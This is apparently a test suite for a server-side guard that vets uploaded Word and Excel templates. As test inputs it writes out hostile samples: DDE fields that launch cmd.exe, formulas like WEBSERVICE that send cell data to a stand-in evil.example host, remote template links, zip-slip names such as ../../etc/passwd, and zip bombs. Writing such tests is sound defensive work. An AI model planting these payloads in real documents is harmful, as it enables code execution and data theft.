import { createHash } from 'node:crypto';
import PizZip from 'pizzip';
import { renderDocx } from '../docx/docx.ts';
import { DocumentError } from '../errors.ts';
import { guardTemplate } from './template-guard.ts';
import { smallDocument } from '../testing/sample-document.ts';

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const EXCEL = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

const contentTypes = (main: string, part: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${main}"/></Types>`;

const relationships = (attributes: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The smallest file that is a Word document, with parts added or replaced. */
function docx(parts: Readonly<Record<string, string | Uint8Array>> = {}): Uint8Array {
  return zipOf({
    '[Content_Types].xml': contentTypes(WORD, 'word/document.xml'),
    'word/document.xml': '<?xml version="1.0"?><w:document/>',
    ...parts,
  });
}

function zipOf(parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const zip = new PizZip();
  for (const [name, content] of Object.entries(parts)) zip.file(name, content, { createFolders: false });
  return zip.generate({ type: 'uint8array', compression: 'DEFLATE' });
}

/** The same zip with every occurrence of one ASCII text in its headers replaced by another of the same length. */
function renamed(bytes: Uint8Array, from: string, to: string): Uint8Array {
  expect(to).toHaveLength(from.length);
  return Buffer.from(Buffer.from(bytes).toString('latin1').replaceAll(from, to), 'latin1');
}

/** Changes the header of a part in the zip's directory. */
function withHeader(bytes: Uint8Array, name: string, change: (header: Buffer) => void): Uint8Array {
  const copy = Buffer.from(bytes);
  let at = copy.indexOf('PK\x01\x02');
  while (copy.toString('latin1', at + 46, at + 46 + copy.readUInt16LE(at + 28)) !== name) {
    at = copy.indexOf('PK\x01\x02', at + 4);
    if (at < 0) throw new Error(`There is no ${name}`);
  }
  change(copy.subarray(at));
  return copy;
}

async function refusalOf(bytes: Uint8Array, kind: 'docx' | 'xlsx' = 'docx'): Promise<DocumentError> {
  const error: unknown = await guardTemplate(bytes, kind).then(
    () => null,
    (reason: unknown) => reason,
  );
  if (!(error instanceof DocumentError)) throw new Error(`Not refused: ${String(error)}`);
  return error;
}

const codeOf = async (bytes: Uint8Array, kind: 'docx' | 'xlsx' = 'docx'): Promise<string> =>
  (await refusalOf(bytes, kind)).code;

const problemOf = async (bytes: Uint8Array): Promise<unknown> => {
  const { code, params } = await refusalOf(bytes);
  return code === 'template-malformed' ? params['problem'] : code;
};

describe('a template is let through', () => {
  it('where it is a Word document', async () => {
    await expect(guardTemplate(docx(), 'docx')).resolves.toBeUndefined();
    await expect(guardTemplate(await renderDocx(smallDocument()), 'docx')).resolves.toBeUndefined();
  });

  it('where it is an Excel workbook', async () => {
    const xlsx = zipOf({
      '[Content_Types].xml': contentTypes(EXCEL, 'xl/workbook.xml'),
      'xl/workbook.xml': '<workbook/>',
    });
    await expect(guardTemplate(xlsx, 'xlsx')).resolves.toBeUndefined();
    await expect(codeOf(xlsx, 'docx')).resolves.toBe('template-not-docx');
    await expect(codeOf(docx(), 'xlsx')).resolves.toBe('template-not-xlsx');
  });

  it('where it links to a web page, which opens only when somebody clicks', async () => {
    const target = `Type="${TYPE}/hyperlink" Target="https://example.vn" TargetMode="External"`;
    const linked = docx({ 'word/_rels/document.xml.rels': relationships(target) });
    await expect(guardTemplate(linked, 'docx')).resolves.toBeUndefined();
  });
});

describe('what is not a document is refused', () => {
  it.each([
    ['text renamed to .docx', Buffer.from('Kế hoạch số 55/KH-UBND'.repeat(50))],
    ['an empty file', new Uint8Array()],
    ['a document protected by a password', Buffer.from('d0cf11e0a1b11ae1'.padEnd(2048, '0'), 'hex')],
    ['a zip of something else', zipOf({ 'bao-cao.txt': 'x' })],
    [
      'a Word template (.dotx)',
      docx({
        '[Content_Types].xml': contentTypes(
          WORD.replace('document.main', 'template.main'),
          'word/document.xml',
        ),
      }),
    ],
    [
      'a document without its text',
      zipOf({ '[Content_Types].xml': contentTypes(WORD, 'word/document.xml') }),
    ],
  ])('%s', async (_, bytes) => {
    await expect(codeOf(bytes)).resolves.toBe('template-not-docx');
  });

  it('a file cut short', async () => {
    await expect(codeOf(docx().subarray(0, 200))).resolves.toBe('template-not-docx');
  });
});

describe('macros are refused', () => {
  const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

  it.each([
    ['a .docm', docx({ '[Content_Types].xml': contentTypes(macroType, 'word/document.xml') })],
    ['a macro project', docx({ 'word/vbaProject.bin': 'x' })],
    ['a macro project in other letters', docx({ 'word/VBAPROJECT.BIN': 'x' })],
    [
      'a macro project of another name',
      docx({
        'word/_rels/document.xml.rels': relationships(
          'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="anh.png"',
        ),
      }),
    ],
    [
      'a type with a character reference',
      docx({
        '[Content_Types].xml': contentTypes(
          'application/vnd.ms-word.document.m&#97;croEnabled.main+xml',
          'word/document.xml',
        ),
      }),
    ],
    ['a .docm inside', docx({ 'word/phu-luc.docm': 'x' })],
  ])('%s', async (_, bytes) => {
    await expect(codeOf(bytes)).resolves.toBe('template-macros');
  });
});

describe('what would exhaust the server is refused', () => {
  const zeros = (megabytes: number): Uint8Array => new Uint8Array(megabytes * 1024 * 1024);

  it('10 MB of zeros, packed a thousandfold', async () => {
    const bomb = docx({ 'word/media/image1.png': zeros(10) });
    expect(bomb.length).toBeLessThan(20_000);
    await expect(codeOf(bomb)).resolves.toBe('template-too-large');
  });

  it('more than 50 MB in many parts, each packed moderately', async () => {
    const noise = createHash('shake256', { outputLength: 1024 * 1024 }).digest();
    const part = new Uint8Array(6 * 1024 * 1024);
    part.set(noise);
    const parts = Object.fromEntries(
      Array.from({ length: 9 }, (_, index) => [`word/media/${index}.png`, part]),
    );
    const bomb = docx(parts);
    expect(bomb.length).toBeLessThan(20 * 1024 * 1024);
    expect((54 * 1024 * 1024) / bomb.length).toBeLessThan(100);
    await expect(codeOf(bomb)).resolves.toBe('template-too-large');
  });

  it('a bomb whose header says that it is small', async () => {
    const bomb = docx({ 'word/media/image1.png': zeros(10) });
    const lying = withHeader(bomb, 'word/media/image1.png', (header) => header.writeUInt32LE(100, 24));
    await expect(problemOf(lying)).resolves.toBe('unreadable');
  });

  it('a file of more than 20 MB, without looking into it', async () => {
    await expect(codeOf(zeros(21))).resolves.toBe('template-too-large');
  });

  it('more than 2,000 parts', async () => {
    const parts = Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`word/${index}.txt`, '']));
    await expect(codeOf(docx(parts))).resolves.toBe('template-too-large');
  });

  it('says what the limits are', async () => {
    const refusal = await refusalOf(zeros(21));
    expect(refusal.explain('vi')).toContain(
      'nhiều nhất 20 MB, 2000 phần; khi giải nén nhiều nhất 50 MB và gấp 100 lần',
    );
    expect(refusal.kind).toBe('invalid');
  });
});

describe('a damaged or deceptive zip is refused', () => {
  it.each([
    ['a name that leads out of the file', '../../etc/passwd'],
    ['an absolute name', '/etc/crontab/abcd'],
    ['a Windows path', 'C:\\Windows\\a.bat'],
    ['a hidden step', 'word/./document.b'],
  ])('%s', async (_, name) => {
    const plainName = 'x'.repeat(name.length);
    await expect(problemOf(renamed(docx({ [plainName]: 'x' }), plainName, name))).resolves.toBe(
      'unsafe-name',
    );
  });

  it('two parts of the same name', async () => {
    const twice = renamed(docx({ 'word/document.xmm': '<b/>' }), 'word/document.xmm', 'word/document.xml');
    await expect(problemOf(twice)).resolves.toBe('duplicate-name');
  });

  it('two parts whose names differ in capitals only', async () => {
    await expect(problemOf(docx({ 'Word/Document.xml': '<b/>' }))).resolves.toBe('duplicate-name');
  });

  it('an encrypted part', async () => {
    const encrypted = withHeader(docx(), 'word/document.xml', (header) => header.writeUInt16LE(1, 8));
    await expect(problemOf(encrypted)).resolves.toBe('encrypted');
  });

  it('a part whose bytes are damaged', async () => {
    const bytes = Buffer.from(docx());
    const at = bytes.indexOf('word/document.xml') + 'word/document.xml'.length;
    bytes.fill(0xff, at, at + 10);
    await expect(problemOf(bytes)).resolves.toBe('unreadable');
  });

  it.each([
    ['XML with a DOCTYPE', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', 'doctype'],
    ['XML that declares another encoding', '<?xml version="1.0" encoding="UTF-7"?><x/>', 'encoding'],
    ['XML in UTF-16', Buffer.from('\ufeff<!DOCTYPE x><x/>', 'utf16le'), 'encoding'],
  ])('%s', async (_, content, problem) => {
    await expect(problemOf(docx({ 'word/styles.xml': content }))).resolves.toBe(problem);
  });

  it('XML under a name that hides it', async () => {
    await expect(problemOf(docx({ 'word/styles.dat': '<!DOCTYPE x><x/>' }))).resolves.toBe('doctype');
  });

  it('relationships that do not read as XML', async () => {
    const broken = relationships(`Type="${TYPE}/image" Target="a"b" TargetMode="External"`);
    await expect(problemOf(docx({ 'word/_rels/document.xml.rels': broken }))).resolves.toBe('xml');
  });

  it('names the part and the problem in both languages', async () => {
    const refusal = await refusalOf(docx({ 'word/styles.xml': '<!DOCTYPE x><x/>' }));
    expect(refusal.explain('vi')).toBe(
      'Mẫu có lỗi ở “word/styles.xml”: XML có DOCTYPE. Sửa chỗ đó trong mẫu rồi gửi lại.',
    );
    expect(refusal.explain('en')).toBe(
      'The template has a fault at "word/styles.xml": the XML has a DOCTYPE. Correct that place in the template and send it again.',
    );
  });
});

describe('what reaches outside the file is refused', () => {
  it.each([
    [
      'a template from a server',
      'word/_rels/settings.xml.rels',
      `Type="${TYPE}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"`,
    ],
    [
      'a picture from a server',
      'word/_rels/document.xml.rels',
      `Type="${TYPE}/image" Target="//evil.example/a.png" TargetMode="External"`,
    ],
    [
      'single quotes and character references',
      'word/_rels/document.xml.rels',
      `Target='http://evil.example' TargetMode='&#x45;xternal' Type='${TYPE}/image'`,
    ],
    [
      'relationships of the whole file',
      '_rels/.rels',
      `Type="${TYPE}/image" Target="http://evil.example" TargetMode="External"`,
    ],
    ['an OLE object', 'word/_rels/document.xml.rels', `Type="${TYPE}/oleObject" Target="media/a.bin"`],
    ['an embedded page', 'word/_rels/document.xml.rels', `Type="${TYPE}/aFChunk" Target="a.html"`],
  ])('%s', async (_, part, attributes) => {
    await expect(codeOf(docx({ [part]: relationships(attributes) }))).resolves.toBe('template-external');
  });

  it('a prefix before the element', async () => {
    const prefixed = `<r:Relationships xmlns:r="x"><r:Relationship Id="a" Type="${TYPE}/image" Target="http://evil.example" TargetMode="External"/></r:Relationships>`;
    await expect(codeOf(docx({ 'word/_rels/document.xml.rels': prefixed }))).resolves.toBe(
      'template-external',
    );
  });

  const body = (xml: string): Uint8Array => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
  const field = (...texts: string[]): string =>
    `<w:fldChar w:fldCharType="begin"/>${texts.map((text) => `<w:instrText xml:space="preserve">${text}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`;

  it.each([
    ['a program', field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')],
    ['a program, the word split over runs', field(' DDE', 'AUTO cmd')],
    ['a program, written in character references', field(' &#68;DE cmd')],
    ['a text from elsewhere', field(' INCLUDETEXT "http://evil.example/a.docx"')],
    ['a picture from elsewhere', '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png "/>'],
  ])('a field that takes in %s', async (_, xml) => {
    const refusal = await refusalOf(body(xml));
    expect(refusal.code).toBe('template-external');
    expect(refusal.explain('vi')).toContain('word/document.xml: ');
  });

  it.each([[field(' PAGE '), field(' HYPERLINK "https://example.vn" '), field(' REF link ')]])(
    'but not fields that stay inside, and links',
    async (...xml) => {
      await expect(guardTemplate(body(xml.join('')), 'docx')).resolves.toBeUndefined();
    },
  );

  const xlsx = (parts: Readonly<Record<string, string>>): Uint8Array =>
    zipOf({
      '[Content_Types].xml': contentTypes(EXCEL, 'xl/workbook.xml'),
      'xl/workbook.xml': '<workbook/>',
      ...parts,
    });
  const sheet = (formula: string): Uint8Array =>
    xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet><c r="A1"><f>${formula}</f></c></worksheet>` });

  it.each([
    ['a web page', 'WEBSERVICE("http://evil.example/?"&amp;A1)'],
    ['a web page, as Excel writes newer functions', '1+_xlfn.WEBSERVICE ("http://evil.example")'],
    ['a web page, in other letters', '&#87;ebService(A1)'],
    ['XML of elsewhere', '_xlfn.FILTERXML(A1,"//a")'],
    ['a picture from a server', '_xlfn.IMAGE("http://evil.example/a.png")'],
    ['a running program', 'RTD("excel.rtd",,"a")'],
    ['DDE', "cmd|'/c calc'!A0"],
    ['DDE in LibreOffice', 'DDE("soffice","/etc/passwd","a")'],
    ['a web page, behind a name with a quotation mark', "'a\"b'!A1+T[c\"]+T['#]+WEBSERVICE(A1)&amp;T['#]"],
    ['another workbook by number', '[1]Sheet1!A1'],
    ['a name of another workbook', 'SUM([1]!Tong)'],
    ['another workbook by name', "'[Số liệu 2023.xlsx]Sheet 1'!A1"],
    ['a workbook on a server', "'\\\\evil.example\\a\\b.xlsx'!Tong"],
  ])('a formula that takes from %s', async (_, formula) => {
    const refusal = await refusalOf(sheet(formula), 'xlsx');
    expect(refusal.code).toBe('template-external');
    expect(refusal.explain('vi')).toContain('xl/worksheets/sheet1.xml: ');
  });

  it.each([
    ['a name', 'xl/workbook.xml', '<workbook><definedName name="a">WEBSERVICE("x")</definedName></workbook>'],
    [
      'a conditional format',
      'xl/worksheets/sheet1.xml',
      '<worksheet><x14:cfRule><xm:f a=">">RTD("x")</xm:f></x14:cfRule></worksheet>',
    ],
    ['a chart', 'xl/charts/chart1.xml', '<c:chart><c:f>[1]Sheet1!$A$1</c:f></c:chart>'],
  ])('such a formula of %s', async (_, part, content) => {
    await expect(codeOf(xlsx({ [part]: content }), 'xlsx')).resolves.toBe('template-external');
  });

  it('a formula behind a comment or in CDATA, where it would not be found', async () => {
    for (const formula of ['WEB<!-- -->SERVICE("x")', '<![CDATA[A1<WEBSERVICE("x")]]>'])
      await expect(codeOf(sheet(formula), 'xlsx')).resolves.toBe('template-malformed');
  });

  it.each([
    'HYPERLINK("https://example.vn","Xem")',
    'SUM(C5:C5)/$C$1',
    "'Số liệu 2023'!A1+Sheet2!B2",
    'SUM(Bang1[Giải ngân],Bang1[[#This Row],[Số]])&amp;Bang1[@Số]',
    'A1&amp;" | "&amp;Sheet2!B1&amp;" [1] "&amp;Sheet2!B2',
    "'a | b'!A1",
    'MYIMAGE(1)',
  ])('but not %s', async (formula) => {
    await expect(guardTemplate(sheet(formula), 'xlsx')).resolves.toBeUndefined();
  });

  it.each([
    'word/embeddings/oleObject1.bin',
    'word/activeX/activeX1.xml',
    'xl/externalLinks/externalLink1.xml',
  ])('%s', async (part) => {
    await expect(codeOf(docx({ [part]: 'x' }))).resolves.toBe('template-external');
  });
});
